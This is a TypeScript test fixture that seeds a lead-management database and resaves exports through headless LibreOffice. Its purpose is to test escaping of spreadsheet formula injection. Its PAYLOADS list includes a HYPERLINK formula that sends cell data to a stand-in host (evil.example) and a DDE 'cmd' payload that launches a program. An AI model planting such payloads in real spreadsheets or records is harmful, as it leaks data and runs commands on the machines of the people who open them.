/**
 * A small workspace for the exchange tests: two reps, leads with formula-injection payloads
 * in names, companies and custom fields, scored columns, and MQL leads in the follow-up
 * queue. Rows go in through SQL as the import would write them; stage changes go through
 * the follow-up service so the queue and SLA state are real.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { mkdirSync, readFileSync, readdirSync, renameSync } from 'node:fs';
import { basename, dirname, extname, join } from 'node:path';
import type Database from 'better-sqlite3';
import { changeStage } from '../../../electron/backend/services/followup/stages';
import { customEncoder } from '../../../electron/backend/services/leads/custom-store';

export const NOW = Date.UTC(2026, 10, 20, 9, 0, 0);

export const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  ' =2+2',
] as const;

export type SeedLead = Readonly<{
  email: string | null;
  first_name: string | null;
  last_name: string | null;
  company: string | null;
  title?: string | null;
  phone?: string | null;
  company_size?: number | null;
  country?: string | null;
  owner?: 'alice' | 'bob' | null;
  score?: number | null;
  grade?: string | null;
  segment?: string | null;
  custom?: Record<string, string>;
  lastActivity?: number | null;
}>;

export const LEADS: readonly SeedLead[] = [
  {
    email: 'ann@acme.example',
    first_name: 'Ann',
    last_name: 'Archer',
    company: 'Acme',
    title: 'CTO',
    phone: '+1 415 555 0100',
    company_size: 250,
    country: 'US',
    owner: 'alice',
    score: 91,
    grade: 'A1',
    segment: 'hot',
    custom: { Budget: '50000' },
    lastActivity: NOW - 86_400_000,
  },
  {
    email: 'ben@beta.example',
    first_name: PAYLOADS[0],
    last_name: 'Baker',
    company: PAYLOADS[1],
    title: 'Buyer',
    phone: '030 1234567',
    company_size: 40,
    country: 'DE',
    owner: 'alice',
    score: 77.5,
    grade: 'A2',
    segment: 'hot',
    custom: { Budget: PAYLOADS[3] },
  },
  {
    email: 'cara@gamma.example',
    first_name: 'Cara',
    last_name: PAYLOADS[2],
    company: 'Gamma',
    title: 'VP Sales',
    company_size: 1200,
    country: 'FR',
    owner: 'alice',
    score: 64,
    grade: 'B1',
    segment: 'warm',
  },
  {
    email: 'dan@delta.example',
    first_name: 'Dan',
    last_name: 'Dunn',
    company: PAYLOADS[4],
    title: PAYLOADS[5],
    company_size: null,
    country: 'UK',
    owner: 'bob',
    score: 55,
    grade: 'B2',
    segment: 'warm',
  },
  {
    email: 'eve@epsilon.example',
    first_name: 'Eve',
    last_name: 'Evans',
    company: 'Epsilon',
    title: 'Analyst',
    company_size: 10,
    country: 'US',
    owner: 'bob',
    score: 81,
    grade: 'A1',
    segment: 'hot',
  },
  {
    email: 'finn@zeta.example',
    first_name: 'Finn',
    last_name: 'Fox',
    company: 'Zeta',
    title: 'CEO',
    company_size: 5,
    country: 'NL',
    owner: 'bob',
    score: 12,
    grade: 'D4',
    segment: 'cold',
  },
];

export type Seeded = Readonly<{ ids: number[]; uids: string[]; alice: number; bob: number }>;

export function seed(db: Database.Database): Seeded {
  const owner = db.prepare('INSERT INTO owners (name, email, role, created_at) VALUES (?, ?, ?, 0)');
  const alice = Number(owner.run('Alice Rep', 'alice@us.example', 'field_rep').lastInsertRowid);
  const bob = Number(owner.run('Bob Rep', 'bob@us.example', 'inside_sales').lastInsertRowid);
  const insert = db.prepare(
    `INSERT INTO leads (uid, email, email_norm, first_name, last_name, company, title, phone, company_size, country,
       custom, owner_id, score_total, grade, segment, last_activity_at, created_at, updated_at)
     VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)`,
  );
  const ids: number[] = [];
  const uids: string[] = [];
  const custom = customEncoder(db);
  for (const l of LEADS) {
    const uid = randomUUID();
    uids.push(uid);
    ids.push(
      Number(
        insert.run(
          uid,
          l.email,
          l.email?.toLowerCase() ?? null,
          l.first_name,
          l.last_name,
          l.company,
          l.title ?? null,
          l.phone ?? null,
          l.company_size ?? null,
          l.country ?? null,
          custom.encode(l.custom ?? {}),
          l.owner === 'alice' ? alice : l.owner === 'bob' ? bob : null,
          l.score ?? null,
          l.grade ?? null,
          l.segment ?? null,
          l.lastActivity ?? null,
          NOW - 10 * 86_400_000,
          NOW - 10 * 86_400_000,
        ).lastInsertRowid,
      ),
    );
  }
  // Every lead becomes an MQL: the follow-up queue holds them all, SLA clocks start.
  changeStage(db, ids, 'mql', 'test', 'seed', NOW - 3_600_000);
  return { ids, uids, alice, bob };
}

/** The LibreOffice binary, or null with the reason the LibreOffice tests skip. */
export function findSoffice(): string | null {
  for (const bin of ['soffice', 'libreoffice']) {
    const r = spawnSync(bin, ['--version'], { encoding: 'utf8', timeout: 60_000 });
    if (r.status === 0) return bin;
  }
  return null;
}

/**
 * Opens a file in LibreOffice headless and saves it again in the same format, as a rep's
 * spreadsheet program would: CSV read as UTF-8 with the given delimiter and written back
 * the same way, XLSX through Calc's Excel 2007-365 filter. Replaces the file (or, with
 * `to`, writes it beside the original in that format).
 */
export function libreofficeResave(bin: string, file: string, profileDir: string, to?: 'xlsx'): void {
  const outDir = join(dirname(file), `lo-${Date.now()}`);
  mkdirSync(outDir, { recursive: true });
  const ext = extname(file).toLowerCase();
  const target = to ?? ext.slice(1);
  const args = ['--headless', '--norestore', `-env:UserInstallation=file://${profileDir}`];
  // CSV filter options: 44/59 = comma/semicolon, 34 = quote, 76 = UTF-8, 1 = first line.
  const sep = ext === '.csv' && readFirstLine(file).includes(';') && !readFirstLine(file).includes(',') ? 59 : 44;
  if (ext === '.csv') args.push(`--infilter=Text - txt - csv (StarCalc):${sep},34,76,1`);
  if (target === 'csv') {
    args.push('--convert-to', `csv:Text - txt - csv (StarCalc):${sep},34,76,1`);
  } else {
    args.push('--convert-to', 'xlsx:Calc MS Excel 2007 XML');
  }
  args.push('--outdir', outDir, file);
  execFileSync(bin, args, { stdio: 'pipe', timeout: 120_000 });
  const produced = readdirSync(outDir).find((f) => f.startsWith(basename(file, ext)));
  if (!produced) throw new Error(`LibreOffice did not write ${basename(file)}`);
  renameSync(join(outDir, produced), join(dirname(file), `${basename(file, ext)}.${target}`));
}

function readFirstLine(file: string): string {
  return readFileSync(file, 'utf8').split(/\r?\n/)[0] ?? '';
}
